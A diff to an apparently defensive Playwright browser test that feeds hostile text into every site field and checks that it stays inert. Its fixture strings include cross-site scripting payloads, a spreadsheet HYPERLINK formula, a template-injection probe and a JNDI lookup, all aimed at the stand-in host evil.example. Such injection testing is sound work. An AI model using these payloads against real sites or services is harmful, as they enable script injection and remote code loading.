@@ -26,10 +26,10 @@ MARKUP = (
     '<script>window.__pwned=1</script><img src="http://evil.example/i.png" onerror="window.__pwned=1"> **bold** `code` :red[red] $x^2$ '
     "![i](http://evil.example/m.png) [x](javascript:window.__pwned=1) <style>@import 'http://evil.example/s.css'</style>"
 )
-# In turn: markup of all sorts, a word as long as any, what programs take for a command, letters of other scripts.
+# In turn: markup of all sorts, a word without an end, what programs take for a command, letters of other scripts.
 POISON = (
     MARKUP,
-    "Endless" * 8,
+    "Endless" * 300,
     '=HYPERLINK("http://evil.example")|{{7*7}}${jndi:ldap://evil.example}%s%n',
     "\U0001f469\u200d\U0001f469\u200d\U0001f467 한반도를긴낱말로써서줄을바꾸지않음" * 2,
 )
@@ -140,20 +140,22 @@ def test_hostile_text_in_every_field_is_text_and_nothing_else(site: str, browser
     context = browser.new_context(base_url=site, viewport={"width": width, "height": 900})
     context.set_default_timeout(30_000)
     faults: list[str] = []
+    # In the same tab the browser reads its scripts once.
+    watched = Watched(context.new_page(), site)
+    page = watched.page
     for path in (*PAGES, *PLAIN) if width > 600 else (*PAGES[::4], *PLAIN[::2]):
-        watched = Watched(context.new_page(), site)
-        page = watched.page
         page.goto(path)
         if path in PAGES and "embed" not in path:
             settled(page)
         else:
             page.wait_for_load_state()
         found = [*watched.complaints(), *page.evaluate(OVER)]
+        watched.errors.clear()
+        watched.addresses.clear()
         found += ["a script ran"] if page.evaluate("() => window.__pwned !== undefined") else []
         page.wait_for_timeout(200)
         found += page.evaluate(TOO_WIDE if path in PAGES else TOO_WIDE_PLAIN)
         faults += [f"{path}: {fault}" for fault in found]
-        page.close()
     context.close()
     assert faults == []
 
